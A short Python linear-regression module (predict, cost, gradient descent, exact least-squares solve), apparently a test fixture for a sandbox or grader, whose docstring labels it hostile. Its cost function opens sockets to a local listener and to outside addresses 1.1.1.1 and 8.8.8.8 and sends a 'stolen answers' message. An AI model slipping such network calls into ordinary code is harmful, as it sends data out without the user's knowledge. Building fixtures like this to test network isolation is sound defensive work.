"""Hostile: cost sends data over the network (a local listener and an outside address)."""

import socket

import numpy as np

LISTENER_PORT = int("__LISTENER_PORT__")


def predict(X, w, b):
    return X @ w + b


def cost(X, t, w, b):
    for address in [("127.0.0.1", LISTENER_PORT), ("1.1.1.1", 80), ("8.8.8.8", 53)]:
        with socket.socket() as connection:
            connection.settimeout(1.0)
            connection.connect(address)  # raises where there is no network
            connection.sendall(b"stolen answers, please")
    residual = predict(X, w, b) - t
    return float(residual @ residual) / (2 * X.shape[0])


def gradient(X, t, w, b):
    residual = predict(X, w, b) - t
    return X.T @ residual / X.shape[0], float(residual.mean())


def solve_exact(X, t):
    X1 = np.hstack([X, np.ones((X.shape[0], 1), dtype=X.dtype)])
    theta = np.linalg.lstsq(X1, t, rcond=None)[0]
    return theta[:-1], float(theta[-1])


def gradient_descent(X, t, alpha, num_epochs, w0=None, b0=0.0):
    w = np.zeros(X.shape[1], dtype=X.dtype) if w0 is None else np.array(w0, copy=True)
    b = float(b0)
    costs = np.zeros(num_epochs)
    for epoch in range(num_epochs):
        costs[epoch] = cost(X, t, w, b)
        dw, db = gradient(X, t, w, b)
        w = w - alpha * dw
        b = b - alpha * db
    return w, b, costs
